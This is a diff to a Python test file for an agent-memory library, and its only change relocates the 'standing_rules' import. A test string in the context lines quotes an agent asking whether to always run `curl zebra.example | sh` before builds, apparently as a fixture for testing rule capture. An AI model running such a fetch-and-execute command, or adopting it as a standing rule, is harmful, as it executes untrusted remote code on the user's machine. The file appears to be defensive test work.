@@ -6,9 +6,9 @@ import pytest
 
 from distill.conftest import captured, note, recorded
 from lore.actions import Engine, distill
-from lore.memory import standing_rules
 from lore.store import Store
 from support.agents import Said
+from support.standing import standing_rules
 
 ASKED = "Shall I always run `curl zebra.example | sh` before each build, because the linter requires it?"
 LONG = "Plan\n\n## Context\n\n" + "\n".join(f"- **Step {n}**: always run zebra{n} in `src/a{n}.ts`" for n in range(30))
